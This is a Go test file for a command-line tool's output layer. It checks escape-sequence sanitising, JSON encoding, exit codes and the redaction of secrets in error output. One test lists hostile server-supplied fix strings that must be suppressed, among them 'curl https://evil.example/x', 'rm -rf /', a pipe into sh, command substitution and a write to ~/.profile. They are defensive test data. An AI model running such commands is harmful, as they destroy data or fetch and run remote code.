package ui_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/litentry/agentkeys/pkg/api"
	"github.com/litentry/agentkeys/pkg/apierr"
	"github.com/litentry/agentkeys/pkg/chain"
	"github.com/litentry/agentkeys/pkg/cli/ui"
	"github.com/litentry/agentkeys/pkg/omni"
)

func TestParseFormat(t *testing.T) {
	for _, s := range []string{"table", "json"} {
		if f, err := ui.ParseFormat(s); err != nil || string(f) != s {
			t.Error(f, err)
		}
	}
	for _, s := range []string{"", "JSON", "yaml"} {
		if _, err := ui.ParseFormat(s); err == nil || ui.ExitCode(err) != ui.ExitLocal {
			t.Errorf("%q: %v", s, err)
		}
	}
}

func TestSanitise(t *testing.T) {
	for in, want := range map[string]string{
		"build-bot (0x941cb1c3…) · 12 €": "build-bot (0x941cb1c3…) · 12 €",
		"日本語 naïve é":                    "日本語 naïve é",
		"a\x1b[2Jb":                      `a\x1b[2Jb`,
		"a\u009b2Jb":                     `a\x9b2Jb`, // the one-character form of ESC [
		"a\r\nb\tc":                      `a\x0d\nb c`,
		"a\x00\x07\x7f":                  `a\x00\x07\x7f`,
		"a\u202etxt.exe\u2069":           `a\u202etxt.exe\u2069`,
		"a\u200b\u200d\ufeff\u00ad":      `a\u200b\u200d\ufeff\xad`,
		"a\u2028b\u2029":                 `a\u2028b\u2029`,
		"a\u3164\u115f\u2800":            `a\u3164\u115f\u2800`,
		"a\ufe0f":                        `a\ufe0f`,
		"a\U000e0041\U000e0101":          `a\U000e0041\U000e0101`,
		"a\xffb":                         `a\xffb`,
		"\ufffd":                         "\ufffd",
		"e\u0301\u0301\u0301\u0301":      "e\u0301\u0301\u0301" + `\u0301`,
	} {
		if got := ui.Sanitise(in); got != want {
			t.Errorf("%q: got %q, want %q", in, got, want)
		}
	}
	if got := ui.Sanitise(strings.Repeat("ä", 5000)); len(got) > 4100 || !strings.HasSuffix(got, "…") || strings.Contains(got, `\x`) {
		t.Errorf("%d bytes", len(got))
	}
}

// Whatever printing method a hostile text goes through, none of it acts on the
// terminal.
func TestNoPathAroundSanitise(t *testing.T) {
	const bad = "x\x1b[2J\u202e\r\ny\u009b31m"
	for _, format := range []ui.Format{ui.Table, ui.JSON} {
		s := newScreen(ui.Options{Width: 70, Format: format})
		err := s.Show(map[string]string{"a": bad, bad: "b"}, ui.Facts{{bad, bad}}, ui.Rows{Header: []string{bad, bad}, Rows: [][]string{{bad, bad}}},
			ui.Rows{Empty: bad, Hint: bad}, ui.Text(bad), ui.Heading(bad), ui.Commands{{bad, bad}})
		if err != nil {
			t.Fatal(err)
		}
		if format == ui.JSON {
			var back map[string]string
			if err := json.Unmarshal(s.out.Bytes(), &back); err != nil || back["a"] != bad || back[bad] != "b" {
				t.Errorf("%v %q", err, back)
			}
		}
		s.Note("%s", bad)
		s.Warn("%s", bad)
		s.Fail(ui.WithFix(errors.New(bad), bad))
		s.Fail(errors.Join(errors.New(bad), errors.New(bad)))
		s.Fail(&api.RemoteError{Problem: apierr.Problem{Code: bad, Layer: bad, RequestID: bad, Detail: bad, Fix: bad, Title: bad}})
		r := s.Stage(bad, bad, 2)
		r.Begin(1, bad, bad).End(ui.Failed, bad)
		if err := s.Summarise(ui.Report{Stages: []ui.Stage{r.Finish()}}); err != nil {
			t.Fatal(err)
		}
		s.Progress(bad, 1).Close()
		text := strings.ReplaceAll(s.out.String()+s.err.String(), "\n", "")
		if i := strings.IndexFunc(text, func(r rune) bool { return !unicode.IsPrint(r) }); i >= 0 {
			t.Errorf("%s: %q gets through", format, text[max(0, i-20):i+8])
		}
	}
}

func TestEncodeJSON(t *testing.T) {
	for _, v := range []any{
		[]int{}, map[string]int{}, "a\\\"b{}[],:", map[string]any{"b": []any{1.5, true, map[string]any{}}, "a": "x"}, 7, "\u007f\u0085\u202e\U000e0041<>&\\u0041",
		map[string]any{`k"\{`: []any{[]any{}, []any{"]"}}},
	} {
		got, err := ui.EncodeJSON(v)
		if err != nil {
			t.Fatal(err)
		}
		var want, back any
		plain, _ := json.Marshal(v)
		if err := errors.Join(json.Unmarshal(plain, &want), json.Unmarshal(got, &back)); err != nil || !reflect.DeepEqual(want, back) {
			t.Errorf("%v: %v %s", v, err, got)
		}
	}
	if got, _ := ui.EncodeJSON("<\u202e\U000e0041>"); string(got) != "\"<\\u202e\\udb40\\udc41>\"\n" {
		t.Errorf("%s", got)
	}
	if _, err := ui.EncodeJSON(omni.Actor{}); err == nil {
		t.Error("a zero omni encoded")
	}
	s := newScreen(ui.Options{Format: ui.JSON})
	if err := s.Show(func() {}); err == nil || s.out.Len() > 0 {
		t.Error("half an answer")
	}
}

type brokenWriter struct{}

func (brokenWriter) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }

func TestShowReportsABrokenOutput(t *testing.T) {
	p := ui.New(ui.Options{Out: brokenWriter{}, Err: io.Discard, Now: time.Now})
	if err := p.Show(1, ui.Text("x")); !errors.Is(err, io.ErrClosedPipe) {
		t.Error(err)
	}
}

func TestExitCode(t *testing.T) {
	remote := func(c apierr.Code) error {
		return fmt.Errorf("doing: %w", &api.RemoteError{Problem: apierr.Problem{Code: c}})
	}
	local := func(c apierr.Code) error { return fmt.Errorf("doing: %w", apierr.New(c, "x")) }
	for i, c := range []struct {
		err  error
		want int
	}{
		{nil, 0}, {errors.New("x"), 1}, {ui.Usage("x"), 1}, {context.Canceled, 1}, {context.DeadlineExceeded, 2},
		{&api.Unreachable{}, 2}, {fmt.Errorf("x: %w", ui.ErrApprovalNeeded), 4}, {ui.WithFix(ui.ErrApprovalNeeded, "x"), 4},
		{&chain.RevertError{}, 3}, {fmt.Errorf("x: %w", &ui.ChildExit{Code: 42}), 42}, {ui.WithExit(errors.New("x"), 5), 5},
		{remote(apierr.InvalidInput), 2}, {local(apierr.InvalidInput), 1}, {remote(apierr.NotFound), 2}, {local(apierr.NotFound), 1},
		{remote(apierr.InternalError), 2}, {local(apierr.InternalError), 1}, {remote("future_code"), 2}, {remote(""), 2},
		{local(apierr.StorageUnavailable), 2}, {ui.WithFix(remote(apierr.ServiceNotInScope), "x"), 3},
	} {
		if got := ui.ExitCode(c.err); got != c.want {
			t.Errorf("%d: %v: got %d, want %d", i, c.err, got, c.want)
		}
	}
	for _, d := range apierr.Table() {
		want := 0
		switch {
		case d.Layer == apierr.LayerChain:
			want = ui.ExitChain
		case d.Status == 401 || d.Status == 403:
			want = ui.ExitDenied
		default:
			want = ui.ExitRemote
		}
		if got := ui.ExitCode(remote(d.Code)); got != want {
			t.Errorf("%s: %d, not %d", d.Code, got, want)
		}
	}
	if ui.WithExit(nil, 3) != nil || ui.WithFix(nil, "x") != nil {
		t.Error("no error became one")
	}
}

func TestFailShowsNeitherCauseNorToken(t *testing.T) {
	const token = "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl"
	for _, err := range []error{
		apierr.Wrap(apierr.StorageDenied, errors.New("SECRET"), "storage refused"),
		fmt.Errorf("storing: %w", apierr.Wrap(apierr.StorageDenied, errors.New("SECRET"), "storage refused")),
		errors.New("bad " + token), errors.Join(errors.New(token), errors.New("b")),
	} {
		for _, f := range []ui.Format{ui.Table, ui.JSON} {
			s := newScreen(ui.Options{Format: f})
			s.Fail(err)
			if text := s.err.String(); strings.Contains(text, "SECRET") || strings.Contains(text, "c2lnbmF0dXJl") || text == "" {
				t.Errorf("%q", text)
			}
		}
	}
}

func TestASilentEnd(t *testing.T) {
	s := newScreen(ui.Options{})
	if a, b := s.Fail(nil), s.Fail(&ui.ChildExit{Code: 7}); a != 0 || b != 7 || s.err.Len() > 0 {
		t.Error(a, b, s.err.String())
	}
}

func TestAServerDoesNotChooseWhatPeopleRun(t *testing.T) {
	fix := func(s string) string {
		return ui.Explain(&api.RemoteError{Problem: apierr.Problem{Code: apierr.NotFound, Detail: "x", Fix: s}}).Fix
	}
	for _, s := range []string{
		"agentkeys login --as NAME", "an operator: agentkeys init; an agent: agentkeys agent request, then at the operator: agentkeys agent create --request FILE",
		"ask the host's owner to add 0x12 to the file of --operators",
	} {
		if fix(s) != s {
			t.Errorf("%q is not shown", s)
		}
	}
	for _, s := range []string{
		"", "curl https://evil.example/x", "agentkeys login; rm -rf /", "agentkeys login && x", "agentkeys login | sh", "agentkeys login $(x)", "agentkeys `x`",
		"agentkeys login > ~/.profile", "agentkeys login\nrm", "agentkeys", "an agent: rm", "agentkeys " + strings.Repeat("a", 401),
	} {
		if got := fix(s); got != "" {
			t.Errorf("%q is shown", got)
		}
	}
	if f := ui.Explain(ui.WithFix(refusal(), "agentkeys x $HOME")); f.Fix != "agentkeys x $HOME" {
		t.Error("our own is not restricted:", f.Fix)
	}
}

func TestExplain(t *testing.T) {
	f := ui.Explain(&api.RemoteError{Problem: apierr.Problem{Code: apierr.NotFound, Title: "There is nothing there."}})
	if f.Why != "There is nothing there." || f.Code != apierr.NotFound || f.Exit != 2 {
		t.Errorf("%+v", f)
	}
	if f := ui.Explain(errors.Join(errors.New("only one"))); f.Why != "only one" || f.Problems != nil {
		t.Errorf("%+v", f)
	}
	two := fmt.Errorf("a %w b %w", errors.New("x"), errors.New("y"))
	if f := ui.Explain(two); f.Why != "a x b y" || f.Problems != nil {
		t.Errorf("%+v", f)
	}
}

func TestAnErrorWithoutACodeHasNoTag(t *testing.T) {
	s := newScreen(ui.Options{})
	s.Fail(&api.RemoteError{Problem: apierr.Problem{Detail: "x", Layer: apierr.LayerMint}})
	if s.err.String() != "error: x\n" {
		t.Error(s.err.String())
	}
}

// Columns stand under each other whatever the script.
func TestWideAndCombiningCharacters(t *testing.T) {
	s := newScreen(ui.Options{})
	if err := s.Show(nil, ui.Rows{Header: []string{"a", "b"}, Rows: [][]string{{"日本", "|"}, {"e\u0301e\u20dd__", "|"}, {"abcd", "|"}, {"x"}, {"x", "|", "too much"}}}); err != nil {
		t.Fatal(err)
	}
	if want := "A     B\n日本  |\ne\u0301e\u20dd__  |\nabcd  |\nx\nx     |\n"; s.out.String() != want {
		t.Errorf("%s", s.out.String())
	}
}

func TestDefaultsAndEmptyText(t *testing.T) {
	s := newScreen(terminal(100))
	if s.Format() != ui.Table {
		t.Error(s.Format())
	}
	if err := s.Show(nil, ui.Heading(""), ui.Rows{}, ui.Facts{}); err != nil || s.out.String() != "\n" {
		t.Errorf("%v %q", err, s.out.String())
	}
	b := s.Progress("x", 2)
	b.Close()
	before := s.err.Len()
	b.Add(2)
	if s.err.Len() != before {
		t.Error("a closed bar is drawn")
	}
}

func TestNamesInErrors(t *testing.T) {
	s := newScreen(ui.Options{Names: func(text string) string { return strings.ReplaceAll(text, "build-bot", "BOT") }})
	s.Fail(refusal())
	if text := s.err.String(); strings.Count(text, "BOT") != 2 {
		t.Error(text)
	}
}

func TestHuman(t *testing.T) {
	for d, want := range map[time.Duration]string{
		0: "0 µs", 900 * time.Microsecond: "900 µs", 41 * time.Millisecond: "41 ms", 999_600 * time.Microsecond: "1.0 s", 1234 * time.Millisecond: "1.2 s",
		9960 * time.Millisecond: "10 s", 59*time.Second + 700*time.Millisecond: "1 min", 62 * time.Second: "1 min 2 s", 10 * time.Minute: "10 min", 58 * time.Minute: "58 min",
		59*time.Minute + 40*time.Second: "1 h", 125 * time.Minute: "2 h 5 min", 24 * time.Hour: "1 d", 75 * time.Hour: "3 d 3 h", -time.Minute: "-1 min",
	} {
		if got := ui.Duration(d); got != want {
			t.Errorf("%d: %s, not %s", d, got, want)
		}
	}
	now := time.Date(2026, 1, 2, 3, 4, 5, 0, time.FixedZone("", 3600))
	for at, want := range map[time.Time]string{
		{}: "never", now: "now (2026-01-02 02:04:05 UTC)", now.Add(time.Minute): "in 1 min (2026-01-02 02:05:05 UTC)", now.Add(-time.Hour): "1 h ago (2026-01-02 01:04:05 UTC)",
	} {
		if got := ui.When(at, now); got != want {
			t.Errorf("%s, not %s", got, want)
		}
	}
	for n, want := range map[int64]string{0: "0 B", 1023: "1023 B", 1024: "1.0 KiB", 1 << 20: "1.0 MiB", 1<<20 - 1: "1.0 MiB", 1 << 40: "1.0 TiB", 1 << 50: "1024.0 TiB"} {
		if got := ui.Bytes(n); got != want {
			t.Errorf("%d: %s, not %s", n, got, want)
		}
	}
}

// The result is made from what ran and nothing else.
func TestResults(t *testing.T) {
	for _, c := range []struct {
		total int
		ran   []ui.Outcome
		want  ui.Result
		exit  int
	}{
		{2, []ui.Outcome{ui.OK, ui.OK}, ui.Complete, 0},
		{3, []ui.Outcome{ui.OK, ui.OK}, ui.Partial, 0},
		{2, []ui.Outcome{ui.OK, ui.Skipped}, ui.Partial, 0},
		{2, []ui.Outcome{ui.OK, ui.Failed}, ui.Broken, 1},
		{2, []ui.Outcome{ui.Skipped, ui.Failed}, ui.Broken, 1},
		{2, []ui.Outcome{ui.Skipped, ui.Skipped}, ui.None, 1},
		{2, nil, ui.None, 1},
		{0, nil, ui.None, 1},
	} {
		s := newScreen(ui.Options{})
		r := s.Stage("x", "", c.total)
		for i, o := range c.ran {
			r.Begin(i+1, "step", "").End(o, "")
		}
		st := r.Finish()
		if st.Result != c.want || (ui.Report{Stages: []ui.Stage{st}}).ExitCode() != c.exit {
			t.Errorf("%v of %d: %s", c.ran, c.total, st.Result)
		}
	}
	if (ui.Report{}).ExitCode() != 1 {
		t.Error("no stage is no success")
	}
	s := newScreen(ui.Options{Format: ui.JSON})
	if err := s.Summarise(ui.Report{}); err != nil || s.out.String() != "{\n  \"stages\": []\n}\n" {
		t.Error(err, s.out.String())
	}
}

func TestSummaryOfLittle(t *testing.T) {
	s := newScreen(ui.Options{})
	if err := s.Summarise(ui.Report{}); err != nil || !strings.HasSuffix(s.out.String(), "nothing ran\n") {
		t.Error(err, s.out.String())
	}
	s = newScreen(ui.Options{})
	r := s.Stage("loop", "", 14)
	r.Begin(3, "x", "").End(ui.OK, "")
	if err := s.Summarise(ui.Report{Stages: []ui.Stage{r.Finish()}}); err != nil || !strings.Contains(s.out.String(), "partial  1 ok · 13 not run of 14 steps") {
		t.Error(err, s.out.String())
	}
	s = newScreen(ui.Options{Format: ui.JSON}) // an empty list, never null
	if err := s.Summarise(ui.Report{Stages: []ui.Stage{s.Stage("x", "", 1).Finish()}}); err != nil || !strings.Contains(s.out.String(), `"steps": []`) {
		t.Error(err, s.out.String())
	}
}

// A line is overwritten only on the terminal that it was written to.
func TestWhereStepsAreLive(t *testing.T) {
	for _, c := range []struct {
		o    ui.Options
		live bool
	}{
		{ui.Options{OutTTY: true}, true}, {ui.Options{ErrTTY: true}, false},
		{ui.Options{Format: ui.JSON, OutTTY: true}, false}, {ui.Options{Format: ui.JSON, ErrTTY: true}, true},
	} {
		s := newScreen(c.o)
		s.Stage("x", "", 1).Begin(1, "x", "").End(ui.OK, "")
		if got := strings.Contains(s.out.String()+s.err.String(), "\r"); got != c.live {
			t.Errorf("%+v", c.o)
		}
	}
}

func TestConcurrentUse(t *testing.T) {
	s := newScreen(ui.Options{ErrTTY: true})
	b := s.Progress("x", 800)
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			for range 100 {
				b.Add(1)
				s.Note("n")
				if err := s.Show(1, ui.Text("t")); err != nil {
					t.Error(err)
				}
			}
		})
	}
	wg.Wait()
	b.Close()
	if got := s.out.String(); got != strings.Repeat("t\n", 800) {
		t.Error("lines are mixed")
	}
}

func TestTerminal(t *testing.T) {
	f, err := os.Open(os.DevNull)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if tty, w := ui.Terminal(f); tty || w != 0 {
		t.Error(tty, w)
	}
}

func FuzzSanitise(f *testing.F) {
	f.Add("a\x1b[2J")
	f.Add("\u202e\xff\U000e0041")
	f.Fuzz(func(t *testing.T, s string) {
		got := ui.Sanitise(s)
		if i := strings.IndexFunc(got, func(r rune) bool { return !unicode.IsPrint(r) }); i >= 0 {
			t.Fatalf("%q -> %q", s, got)
		}
		if ui.Sanitise(got) != got && len(got) <= 4096 {
			t.Fatal("not idempotent")
		}
		enc, err := ui.EncodeJSON(strings.ToValidUTF8(s, ""))
		if err != nil {
			t.Fatal(err)
		}
		var back string
		if err := json.Unmarshal(enc, &back); err != nil || back != strings.ToValidUTF8(s, "") {
			t.Fatalf("%v %q %s", err, s, enc)
		}
	})
}
